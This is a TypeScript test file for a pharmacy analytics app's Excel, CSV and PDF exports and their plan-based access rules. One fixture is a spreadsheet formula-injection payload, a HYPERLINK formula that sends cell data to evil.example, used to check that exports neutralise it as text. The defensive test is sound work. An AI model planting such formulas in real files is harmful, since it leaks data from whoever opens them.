import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import {
  analysisCsvPath,
  analysisXlsxContracts,
  CONDITION_LABELS,
  DASHBOARD_METRICS,
  FACILITY_STANDARDS_CSV,
  exportContracts,
} from '@pharmalytics/domain';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { HttpClient } from '../testing/http-client.ts';
import { importMedicines } from '../masters/seed-masters.ts';
import { replicaCaughtUp } from '../testing/replica.ts';
import { startTestApp, type TestApp } from '../testing/test-app.ts';
import { uploadAs } from '../testing/upload.ts';

/**
 * The exports read back as a reader's software reads them: the workbooks with exceljs, the PDF
 * with poppler's pdftotext and pdffonts. The data: two April sheets of 天神店 from an institution
 * whose uploaded name is a formula, 調剤基本料 45 and 32.5 points (450 + 325 = 775 yen), and one
 * sheet of 40 points (400 yen) on 1 March, so the store's data covers March, the comparison.
 */
const FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"x")';
const uploadedName = `"${FORMULA_NAME.replaceAll('"', '""')}"`;
const CORPORATION = '株式会社博多ファーマシー';
const TENJIN = 'はかた薬局 天神店';

const sheet = (date: string, reception: string, points: number) =>
  `4041100018,${date},09:15,${reception},1,P-A,2,1950-03,,,社保,外来,新規,1,4011000011,` +
  `${uploadedName},,内科,,,FEE,120000110,調剤基本料,調剤基本料,${points},1,,,`;

/** A medicine of the master, and a sheet of 博多駅前店 dispensing it (7 days of 1 g). */
const GASTER = {
  code: '610406079',
  yjCode: '2325003B2029',
  name: 'ガスター散２％',
  unit: 'ｇ',
  price: 26,
  isGeneric: false,
  genericClass: 2 as const,
  validFrom: null,
  validTo: null,
};
const medicineSheet =
  `4041100026,2026-04-08,10:00,M1,1,P-B,1,1960-01,,,社保,外来,新規,1,4011000029,` +
  `みどり内科,,内科,,,MEDICINE,${GASTER.code},${GASTER.name},,18,7,1,${GASTER.unit},182`;

let t: TestApp;
let admin: HttpClient;
let scratch: string;
beforeAll(async () => {
  t = await startTestApp();
  const reply = await uploadAs(t, '1001', [
    sheet('2026-04-06', 'R1', 45),
    sheet('2026-04-07', 'R2', 32.5),
    sheet('2026-03-01', 'R3', 40),
  ]);
  expect(reply.body).toMatchObject({ status: 'loaded', prescriptionsLoaded: 3, rowsRefused: 0 });
  await importMedicines(t.db, [GASTER]);
  const medicine = await uploadAs(t, '1002', [medicineSheet]);
  expect(medicine.body).toMatchObject({ status: 'loaded', prescriptionsLoaded: 1, rowsRefused: 0 });
  await replicaCaughtUp(t.app, t.db);
  admin = t.client();
  await admin.login('admin@example.com');
  scratch = mkdtempSync(join(tmpdir(), 'exports-test-'));
}, 120_000);
afterAll(async () => {
  rmSync(scratch, { recursive: true, force: true });
  await t.close();
});

const APRIL = { from: '2026-04-01', to: '2026-04-30', period_code: '2', store_codes: '1001' };
const WITH_MARCH = { ...APRIL, comparison_from: '2026-03-01', comparison_to: '2026-03-31' };
const DASHBOARD = {
  baseFrom: '2026-04-01',
  baseTo: '2026-04-30',
  comparisonTargetFrom: '2026-03-01',
  comparisonTargetTo: '2026-03-31',
  periodCode: '2',
  storeCodes: '1001',
};

const xlsxPath = (family: keyof typeof analysisXlsxContracts, metric: string) =>
  analysisXlsxContracts[family].path.replace(':metric', metric);

async function workbook(client: HttpClient, path: string, query: Record<string, string>) {
  const reply = await client.get(`${path}?${new URLSearchParams(query)}`);
  expect(reply.status, reply.bytes.toString('utf8').slice(0, 200)).toBe(200);
  expect(reply.headers.get('content-type')).toBe(
    'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
  );
  // Streamed as exceljs writes it: no length is sent ahead.
  expect(reply.headers.get('transfer-encoding')).toBe('chunked');
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(reply.bytes as unknown as ArrayBuffer);
  return { book, disposition: decodeURIComponent(reply.headers.get('content-disposition')!) };
}

/** A row's values from column 1 (exceljs keeps index 0 empty). */
const rowValues = (ws: ExcelJS.Worksheet, n: number) =>
  (ws.getRow(n).values as ExcelJS.CellValue[]).slice(1);

/** The conditions block's rows: label and value. */
const conditions = (ws: ExcelJS.Worksheet) =>
  Object.fromEntries([1, 2, 3, 4, 5, 6].map((n) => rowValues(ws, n)));

describe('the Excel workbook of an analysis page', () => {
  it('opens every sheet with the conditions block and a frozen header, named in Japanese', async () => {
    const { book, disposition } = await workbook(
      admin,
      xlsxPath('clinic', 'dispensing_sales'),
      WITH_MARCH,
    );
    expect(disposition).toContain('Pharmalytics_医療機関_調剤売上_2026-04-01_2026-04-30.xlsx');
    expect(book.worksheets.map((ws) => ws.name)).toEqual(['調剤売上', 'ピボット用']);
    for (const ws of book.worksheets) {
      const block = conditions(ws);
      expect(block[CONDITION_LABELS.corporation]).toBe(CORPORATION);
      expect(block[CONDITION_LABELS.stores]).toBe(`${TENJIN}（1店舗）`);
      expect(block[CONDITION_LABELS.period]).toBe('2026/04/01〜2026/04/30');
      expect(block[CONDITION_LABELS.comparison]).toBe('2026/03/01〜2026/03/31');
      expect(block[CONDITION_LABELS.filters]).toBe('なし');
      expect(block[CONDITION_LABELS.madeAt]).toMatch(/^\d{4}\/\d{2}\/\d{2} \d{2}:\d{2}$/);
      expect(ws.views[0]).toMatchObject({ state: 'frozen', ySplit: 8 });
    }
  });

  it('holds the page’s JSON: the same items and figures, numbers as numbers in 円', async () => {
    const json = await admin.get(
      `/v3/clinic/dispensing_sales?${new URLSearchParams({
        from: '2026-04-01',
        to: '2026-04-30',
        periodCode: '2',
        storeCodes: '1001',
        comparisonFrom: '2026-03-01',
        comparisonTo: '2026-03-31',
      })}`,
    );
    expect(json.status).toBe(200);
    const { book } = await workbook(admin, xlsxPath('clinic', 'dispensing_sales'), WITH_MARCH);
    const ws = book.getWorksheet('調剤売上')!;
    expect(rowValues(ws, 8)).toEqual([
      'No.',
      '医療機関',
      '2026/04',
      '合計',
      '比較期間',
      '増減（%）',
    ]);
    const series = json.body as { name: string; total: number; comparisonTotal: number }[];
    expect(series).toHaveLength(1);
    series.forEach((s, i) => {
      const row = ws.getRow(9 + i);
      expect(rowValues(ws, 9 + i)).toEqual([
        i + 1,
        s.name,
        s.total,
        s.total,
        s.comparisonTotal,
        93.8,
      ]);
      expect(row.getCell(3).type).toBe(ExcelJS.ValueType.Number);
      expect(row.getCell(3).numFmt).toBe('#,##0"円"');
      expect(row.getCell(6).numFmt).toBe('+0.0"%";-0.0"%";0.0"%"');
    });
    expect(series[0]).toMatchObject({ total: 775, comparisonTotal: 400 });
  });

  it('writes the formula-like uploaded name as a text cell, never a formula', async () => {
    const { book } = await workbook(admin, xlsxPath('clinic', 'dispensing_sales'), APRIL);
    for (const [sheetName, column] of [
      ['調剤売上', 2],
      ['ピボット用', 2],
    ] as const) {
      const cell = book.getWorksheet(sheetName)!.getRow(9).getCell(column);
      expect(cell.type, sheetName).toBe(ExcelJS.ValueType.String);
      expect(cell.value).toBe(FORMULA_NAME);
      expect(cell.formula).toBeUndefined();
      expect(cell.numFmt).toBe('@');
    }
  });

  it('adds the long format a pivot table reads: 店舗 × 医療機関 × 期間 × value', async () => {
    const { book } = await workbook(admin, xlsxPath('clinic', 'prescription_counts'), {
      ...APRIL,
      period_code: '3',
      to: '2026-04-07',
    });
    const ws = book.getWorksheet('ピボット用')!;
    expect(rowValues(ws, 8)).toEqual(['店舗', '医療機関', '期間', '処方箋枚数（枚）']);
    const rows = Array.from({ length: ws.rowCount - 8 }, (_, i) => rowValues(ws, 9 + i));
    // A row per day of the period; the days without a sheet count zero.
    expect(rows).toHaveLength(7);
    expect(rows.filter((r) => r[3] !== 0)).toEqual([
      [TENJIN, FORMULA_NAME, '2026/04/06', 1],
      [TENJIN, FORMULA_NAME, '2026/04/07', 1],
    ]);
  });
});

describe('the CSV exports', () => {
  it('name the metric and the period; 店舗別 is the long format with a 店舗 column', async () => {
    const reply = await admin.get(
      `${analysisCsvPath('clinic', 'dispensing_sales')}?${new URLSearchParams({
        ...APRIL,
        separate_by_store: 'true',
      })}`,
    );
    expect(reply.status).toBe(200);
    expect(decodeURIComponent(reply.headers.get('content-disposition')!)).toContain(
      'Pharmalytics_医療機関_調剤売上_店舗別_2026-04-01_2026-04-30.csv',
    );
    const lines = reply.bytes
      .toString('utf8')
      .replace(/^\uFEFF/, '')
      .split('\r\n');
    expect(lines.slice(0, 2)).toEqual([
      '"店舗","医療機関","期間","調剤売上（円）"',
      `"${TENJIN}","'${FORMULA_NAME.replaceAll('"', '""')}","2026/04",775`,
    ]);
  });
});

describe('the exports of a page of medicines', () => {
  it('carry the YJ code and the price (薬価) of the master, in the workbook and the 店舗別CSV', async () => {
    const HAKATA = { ...APRIL, store_codes: '1002' };
    const { book } = await workbook(admin, xlsxPath('medicine_fee', 'counts'), HAKATA);
    const table = book.getWorksheet('数量')!;
    expect(rowValues(table, 8)).toEqual([
      'No.',
      '医薬品',
      'YJコード',
      '薬価（円）',
      '2026/04',
      '合計',
    ]);
    expect(rowValues(table, 9).slice(1, 4)).toEqual(['ガスター散２％', '2325003B2029', 26]);
    const long = book.getWorksheet('ピボット用')!;
    expect(rowValues(long, 8)).toEqual([
      '店舗',
      '医薬品',
      'YJコード',
      '薬価（円）',
      '期間',
      '数量',
    ]);
    expect(rowValues(long, 9).slice(0, 5)).toEqual([
      'はかた薬局 博多駅前店',
      'ガスター散２％',
      '2325003B2029',
      26,
      '2026/04',
    ]);
    const csv = await admin.get(
      `${analysisCsvPath('medicine_fee', 'counts')}?${new URLSearchParams({
        ...HAKATA,
        separate_by_store: 'true',
      })}`,
    );
    const lines = csv.bytes
      .toString('utf8')
      .replace(/^\uFEFF/, '')
      .split('\r\n');
    expect(lines[0]).toBe('"店舗","医薬品","YJコード","薬価（円）","期間","数量"');
    expect(lines[1]).toMatch(
      /^"はかた薬局 博多駅前店","ガスター散２％","2325003B2029",26,"2026\/04",/,
    );
  });
});

describe('the dashboard exports', () => {
  it('make a workbook of the eleven KPIs, then a sheet per KPI', async () => {
    const { book, disposition } = await workbook(
      admin,
      exportContracts.dashboardXlsx.path,
      DASHBOARD,
    );
    expect(disposition).toContain('Pharmalytics_ダッシュボード_2026-04-01_2026-04-30.xlsx');
    expect(book.worksheets.map((ws) => ws.name)).toEqual([
      '主要指標',
      ...DASHBOARD_METRICS.map((m) => m.label),
    ]);
    const kpis = book.getWorksheet('主要指標')!;
    expect(conditions(kpis)[CONDITION_LABELS.comparison]).toBe('2026/03/01〜2026/03/31（前期間）');
    expect(rowValues(kpis, 8)).toEqual(['指標', '当期', '比較期間', '増減']);
    expect(rowValues(kpis, 9)).toEqual(['調剤売上', 775, 400, 93.8]);
    expect(rowValues(kpis, 10)).toEqual(['処方箋枚数', 2, 1, 100]);
    const sales = book.getWorksheet('調剤売上')!;
    expect(rowValues(sales, 9)).toEqual(['2026/04', 775, '2026/03', 400]);
  });

  it('make an A4 PDF whose fonts are embedded and whose text holds the figures', async () => {
    const reply = await admin.get(
      `${exportContracts.dashboardPdf.path}?${new URLSearchParams(DASHBOARD)}`,
    );
    expect(reply.status).toBe(200);
    expect(reply.headers.get('content-type')).toBe('application/pdf');
    // Streamed to the reply as pdfkit writes it, not gathered first: no length is sent ahead.
    expect(reply.headers.get('content-length')).toBeNull();
    expect(reply.headers.get('transfer-encoding')).toBe('chunked');
    expect(reply.bytes.subarray(0, 5).toString()).toBe('%PDF-');
    const file = join(scratch, 'report.pdf');
    writeFileSync(file, reply.bytes);
    const text = execFileSync('pdftotext', ['-layout', file, '-'], { encoding: 'utf8' });
    expect(text).toContain(CORPORATION);
    expect(text).toContain(TENJIN);
    expect(text).toMatch(/調剤売上\s+775円\s+400円\s+\+93\.8%/);
    expect(text).toMatch(/処方箋枚数\s+2枚\s+1枚\s+\+100\.0%/);
    expect(text).toContain('2026/04/01〜2026/04/30');
    const info = execFileSync('pdfinfo', [file], { encoding: 'utf8' });
    expect(info).toMatch(/Page size:\s+595\.28 x 841\.89 pts \(A4\)/);
    const pages = Number(/Pages:\s+(\d+)/.exec(info)![1]);
    // The conditions are printed on every page.
    expect(text.split('\f').filter((p) => p.includes(CORPORATION))).toHaveLength(pages);
    const fonts = execFileSync('pdffonts', [file], { encoding: 'utf8' })
      .trim()
      .split('\n')
      .slice(2);
    expect(fonts.length).toBeGreaterThan(0);
    expect(fonts.some((line) => line.includes('NotoSansCJKjp'))).toBe(true);
    for (const line of fonts) expect(line, line).toMatch(/\byes\s+yes\s+yes\s+\d+\s+\d+\s*$/);
  }, 60_000);
});

describe('the scorecard export', () => {
  it('makes one sheet with a row per store and 全店舗', async () => {
    const { book } = await workbook(admin, exportContracts.scorecardXlsx.path, {
      from: '2026-04-01',
      to: '2026-04-30',
      comparisonFrom: '2026-03-01',
      comparisonTo: '2026-03-31',
      storeCodes: '1001',
    });
    const ws = book.getWorksheet('店舗別実績一覧')!;
    expect(rowValues(ws, 8).slice(0, 4)).toEqual([
      '店舗',
      '調剤売上（円）',
      '調剤売上（比較期間）',
      '調剤売上（増減）',
    ]);
    expect(rowValues(ws, 9).slice(0, 4)).toEqual([TENJIN, 775, 400, 93.8]);
    expect(rowValues(ws, 10)[0]).toBe('全店舗');
  });
});

describe('the 施設基準 export', () => {
  it('makes the outlook of each store and its months, with the page CSV’s columns', async () => {
    const { book } = await workbook(admin, exportContracts.facilityStandardsXlsx.path, {
      storeCodes: '1001,1002',
    });
    expect(book.worksheets.map((ws) => ws.name)).toEqual([
      '施設基準の見込み',
      '月別の実績と見込み',
    ]);
    const outlook = book.getWorksheet('施設基準の見込み')!;
    expect(rowValues(outlook, 8)[0]).toBe('店舗');
    expect([rowValues(outlook, 9)[0], rowValues(outlook, 10)[0]]).toEqual([
      TENJIN,
      'はかた薬局 博多駅前店',
    ]);
    const months = book.getWorksheet('月別の実績と見込み')!;
    expect(rowValues(months, 8)).toEqual([...FACILITY_STANDARDS_CSV.header]);
    expect(conditions(months)[CONDITION_LABELS.stores]).toBe(
      `${TENJIN}、はかた薬局 博多駅前店（2店舗）`,
    );
  }, 60_000);
});

describe('plans', () => {
  const week = { ...APRIL, store_codes: '3001' };
  it('give the basic plan CSV and Excel of its open pages and the PDF, not the advanced pages', async () => {
    const basic = t.client();
    await basic.login('basic@example.com');
    const q = new URLSearchParams(week);
    expect((await basic.get(`${xlsxPath('gender', 'prescription_counts')}?${q}`)).status).toBe(200);
    expect(
      (await basic.get(`${analysisCsvPath('gender', 'prescription_counts')}?${q}`)).status,
    ).toBe(200);
    const doctor = await basic.get(`${xlsxPath('doctor', 'prescription_counts')}?${q}`);
    expect(doctor.status).toBe(403);
    const dashboard = new URLSearchParams({ ...DASHBOARD, storeCodes: '3001' });
    expect((await basic.get(`${exportContracts.dashboardXlsx.path}?${dashboard}`)).status).toBe(
      200,
    );
    expect((await basic.get(`${exportContracts.dashboardPdf.path}?${dashboard}`)).status).toBe(200);
  }, 60_000);

  it('keep the free plan without exports, its pages open as before', async () => {
    const free = t.client();
    await free.login('free@example.com');
    const q = new URLSearchParams({ ...APRIL, store_codes: '2001' });
    const csv = await free.get(`${analysisCsvPath('clinic', 'prescription_counts')}?${q}`);
    expect(csv.status).toBe(403);
    const xlsx = await free.get(`${xlsxPath('clinic', 'prescription_counts')}?${q}`);
    expect(xlsx.status).toBe(403);
    expect(xlsx.body).toMatchObject({ message: 'Excelの出力に失敗しました' });
    const dashboard = new URLSearchParams({ ...DASHBOARD, storeCodes: '2001' });
    expect((await free.get(`${exportContracts.dashboardPdf.path}?${dashboard}`)).status).toBe(403);
  });

  it('refuse a store the member may not browse', async () => {
    const user = t.client();
    await user.login('user@example.com'); // browses 1001 and 1002
    const q = new URLSearchParams({ ...APRIL, store_codes: '1003' });
    expect((await user.get(`${xlsxPath('clinic', 'prescription_counts')}?${q}`)).status).toBe(403);
  });
});
